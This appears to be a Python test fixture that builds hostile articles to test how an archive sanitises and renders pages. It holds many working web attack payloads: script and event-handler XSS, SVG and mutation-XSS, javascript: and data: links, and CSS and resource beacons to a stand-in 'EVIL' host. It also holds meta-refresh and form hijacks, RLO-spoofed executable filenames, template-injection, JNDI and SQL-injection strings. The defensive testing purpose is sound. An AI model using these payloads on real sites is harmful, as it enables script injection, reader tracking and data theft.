"""Articles as somebody would write them who wants to harm readers of the archive.

Each holds one honest sentence with a figure, so that it has a page of evidence and a place in the replayed page. In all
texts ``EVIL`` stands for a server of the attacker's, which writes down who asks; ``RUN`` is what a script would do.
"""

from __future__ import annotations

from dataclasses import dataclass, field

HONEST = "Trong 6 tháng đầu năm 2022, Liên minh đã mở {0} lớp dành cho sáng lập viên."
RUN = "window.canary=1;document.title='canary';alert('canary');new Image().src='EVIL/ran'"
RLO, LRI, FSI, PDI, ZWSP, ZWJ, BOM = "\u202e", "\u2066", "\u2068", "\u2069", "\u200b", "\u200d", "\ufeff"
ZALGO = "".join(chr(c) for c in range(0x300, 0x36F))
PICTURE = "image/png", b"\x89PNG\r\n\x1a\n" + b"\0" * 40


@dataclass(frozen=True)
class Hostile:
    """An article: ``title`` as text, HTML before and after the honest sentence, ``files`` by path."""

    title: str
    before: str = ""
    after: str = ""
    inside: str = ""
    head: str = ""
    attached: tuple[tuple[str, str], ...] = ()
    files: dict[str, tuple[str, bytes]] = field(default_factory=dict)


def picture(source: str, caption: str, alt: str = "") -> str:
    return f'<p align="center"><img alt="{alt}" src="{source}"></p><p align="center"><em>{caption}</em></p>'


DRAWING = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
onload="{RUN}" width="300" height="200"><script>{RUN}</script><image href="EVIL/svg.png" width="9" height="9"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="EVIL/frame"></iframe></foreignObject>
<style>@import url(EVIL/svg.css); rect{{fill:url(EVIL/fill.svg#x)}}</style><rect width="300" height="200"/>
<animate attributeName="href" values="javascript:{RUN}"/><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>"""
CSS = """@import url("EVIL/import.css"); @font-face{font-family:x;src:url(EVIL/font.woff)}
body{background:url('EVIL/body.png')!important;font-family:x} *{cursor:url(EVIL/cursor.png),auto}
a[href^="http"]{background-image:url(EVIL/leak?a)} html{width:9000px;overflow:visible}
body::after{content:url(EVIL/content.png)} p{list-style:url(EVIL/list.png)}"""
COVER = "position:fixed;inset:0;width:99999px;height:99999px;z-index:99999"

ARTICLES: dict[str, Hostile] = {
    "script": Hostile(
        title=f"<script>{RUN}</script> Báo cáo số một",
        before=f"<script>{RUN}</script><script src=EVIL/x.js></script><p>&lt;script&gt;{RUN}&lt;/script&gt;</p>",
        after="<noscript><img src=EVIL/noscript></noscript><script type=module>import 'EVIL/m.js'</script>"
        f'<x-y onclick="{RUN}">z</x-y>',
        inside="</script><script>",
    ),
    "handlers": Hostile(
        title="Báo cáo \" onmouseover=\"alert(1)\" x=\" số hai' onfocus='alert(2)' autofocus='",
        before=f'<img src=/khong-co.png onerror="{RUN}"><body onload="{RUN}"><input autofocus onfocus="{RUN}">'
        f'<details open ontoggle="{RUN}"><summary>x</summary></details><video src=/x onerror="{RUN}"></video>'
        f'<marquee onstart="{RUN}">m</marquee>',
        after=f'<div onpointerenter="{RUN}" style="{COVER}">che</div>',
    ),
    "svg": Hostile(
        title="Báo cáo số ba <svg onload=alert(1)>",
        before=DRAWING + picture("/files/hinh.svg", "Hình <svg/onload=alert(3)> vẽ", "<b>alt</b>"),
        after="<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        files={"/files/hinh.svg": ("image/svg+xml", DRAWING.encode())},
    ),
    "css": Hostile(
        title="Báo cáo số bốn </title><style>*{display:none}</style>",
        before=f'<style>{CSS}</style><p style="background:url(EVIL/inline.png);{COVER}">phủ</p>',
        after="<table background=EVIL/table.png width=99999><tr><td nowrap width=99999>rộng</td></tr></table>",
        head="<link rel=stylesheet href=/files/xau.css><link rel=stylesheet href=EVIL/sheet.css>",
        files={"/files/xau.css": ("text/css", CSS.encode())},
    ),
    "leaving": Hostile(
        title="Báo cáo số năm",
        head="<base href=EVIL/><meta http-equiv=refresh content='0;url=EVIL/refresh'><link rel=dns-prefetch href=EVIL>"
        "<link rel=preconnect href=EVIL><link rel=prefetch href=EVIL/prefetch>"
        "<link rel=preload as=image href=EVIL/preload>",
        after="<iframe src=EVIL/iframe></iframe><iframe srcdoc=\"<script>alert('canary')</script>\"></iframe>"
        "<object data=EVIL/object></object><embed src=EVIL/embed><form action=EVIL/form><button>gửi</button></form>"
        "<img srcset='EVIL/srcset 1x' src=EVIL/img><picture><source srcset=EVIL/source><img src=EVIL/img2></picture>"
        "<video poster=EVIL/poster autoplay src=EVIL/video><track src=EVIL/track></video>"
        "<audio src=EVIL/audio autoplay></audio><a href=EVIL/link target=_top ping=EVIL/ping>đi</a>"
        "<area href=EVIL/area><input type=image src=EVIL/input>",
    ),
    "addresses": Hostile(
        title="Báo cáo số sáu",
        before=picture("javascript:alert('canary')", "chú thích <i>nghiêng</i>", "'&quot;&gt;<script>alert(1)</script>")
        + picture("data:text/html,<script>alert('canary')</script>", "data")
        + "<a href=\"javascript:alert('canary')\">js</a><a href='data:text/html,<script>alert(1)</script>'>data</a>"
        "<a href='vbscript:x'>vb</a><a href=' &#9;java&#10;script:alert(1)'>trống</a><a href='http://[::1'>hỏng</a>",
        attached=(
            ("javascript:alert('canary')", "Tệp <script>alert(1)</script>"),
            ("data:application/pdf,x", "data"),
            (f"/files/bao-cao{RLO}fdp.exe.pdf", f"bao-cao{RLO}fdp.exe"),
            ('/files/"><img src=x onerror=alert(1)>.pdf', '"><img src=x onerror=alert(1)>'),
            ("/files/trang.pdf", "Trang giả PDF"),
        ),
        files={
            f"/files/bao-cao{RLO}fdp.exe.pdf": ("application/pdf", b"MZ\x90\x00 not a document"),
            '/files/"><img src=x onerror=alert(1)>.pdf': ("application/pdf", b"%PDF-1.4 <script>alert(1)</script>"),
            "/files/trang.pdf": ("application/pdf", f"<html><script>{RUN}</script></html>".encode()),
        },
    ),
    "turning": Hostile(
        title=f"Báo cáo {RLO}yảb ốs{PDI} và {LRI}mở không đóng {FSI}",
        before=f"<p>{RLO}Quay ngược tất cả <bdo dir=rtl>những gì</bdo> đứng sau{PDI}{PDI}{PDI}</p>",
        inside=f"{ZWSP}{ZWJ}{BOM}",
        after=picture("/files/anh.png", f"Ảnh {RLO}gnp.exe {LRI}", f"alt {RLO}cba")
        + f"<p>2{ZWSP}7{ZWJ} lớp; {ZALGO * 20}x</p>",
        files={"/files/anh.png": PICTURE},
    ),
    "huge": Hostile(
        title="Báo cáo" + "dài" * 700,
        before=f"<p>{'x' * 400_000}</p>" + picture("/files/lon.png", "chú_thích" * 900, "alt" * 900),
        after="<table><tr>" + "<td>một_ô_rất_dài_không_có_chỗ_ngắt</td>" * 300 + "</tr></table>",
        attached=((f"/files/{'dai' * 60}.pdf", "nhãn" * 800),),
        files={"/files/lon.png": PICTURE, f"/files/{'dai' * 60}.pdf": ("application/pdf", b"%PDF-1.4")},
    ),
    "templates": Hostile(
        title="{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{ config }} Báo cáo số chín",
        before="<p>{{ ''.__class__.__mro__ }} {0} {title} %s %(x)s &lt;!--#exec cmd='ls'--&gt; ${jndi:ldap://x}</p>",
        after="<p>' OR 1=1; DROP TABLE articles; -- \\ \\u003cscript\\u003e</p>",
        inside="{{7*7}}",
    ),
    "nothing": Hostile(
        title="Báo cáo số\0 mười",
        before="<p>a\0b</p><scr\0ipt>alert('canary')</scr\0ipt><img src='/files/nul\0.png' on\0error=alert(1)>",
        after="<p\0 onclick=alert(1)>\0\0\0</p><!-- --!><img src=x onerror=alert('canary')> -->",
    ),
    "mutants": Hostile(
        title="Báo cáo số mười một",
        before='<textarea><a title="</textarea><img src=EVIL/mutant onerror=alert(1)>"></a></textarea>'
        '<svg><style><a title="</style><img src=EVIL/mutant onerror=alert(1)>"></svg>'
        '<xmp><p title="</xmp><img src=EVIL/mutant onerror=alert(1)>"></xmp>',
        after="<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('canary')>",
    ),
}
